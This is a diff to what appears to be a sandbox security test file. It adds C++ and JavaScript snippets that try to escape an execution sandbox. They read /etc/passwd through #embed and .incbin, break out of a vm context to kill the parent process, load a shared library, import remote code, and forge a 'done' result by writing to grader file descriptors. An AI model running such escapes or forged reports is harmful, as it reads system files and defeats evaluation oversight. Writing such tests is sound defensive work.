@@ -24,11 +24,14 @@ CPP = {
     "linker options": '__attribute__((section(".note.GNU-stack,\\"ax\\",@progbits\\n.incbin \\"/etc/passwd\\"#"))) int x = 1;' + _MAIN,
     "before main": "#include <unistd.h>\n__attribute__((constructor)) void first() { write(3, \"[\\\"done\\\"]\\n\", 9); _exit(0); }" + _MAIN,
     "forged report": "#include <unistd.h>\nint main() { for (int d = 3; d < 64; d++) write(d, \"[\\\"done\\\"]\\n\", 9); }",
+    "embeds a file": 'const unsigned char all[] = {\n#embed "/etc/passwd"\n};\n#include <cstdio>\nint main() { fwrite(all, 1, sizeof all, stdout); }',
     "a null character": "int main() { return 0; }\0#include <cstdio>",
 }  # fmt: skip
 
 JAVASCRIPT = {
     "prints by the engine's own binding": "process.binding('fs').writeString(3, '[\"done\"]\\n');",
+    "out of a new context": "const p = require('vm').runInNewContext('this.constructor.constructor(\"return process\")()'); p.kill(p.ppid, 9); console.log(require('fs').readFileSync('/etc/passwd', 'utf8'));",
+    "a shared library": "process.dlopen({exports: {}}, '/tmp/a.node');",
     "internal binding": "process._linkedBinding('fs'); process.binding('process_wrap');",
     "another program's source": "require('fs').readSync(5, Buffer.alloc(10)); console.log(require('fs').readFileSync('/proc/self/fd/4', 'utf8'));",
     "a module from a stranger": "import('data:text/javascript,console.log(4)').catch(() => {}); import('https://example.com/x.js');",
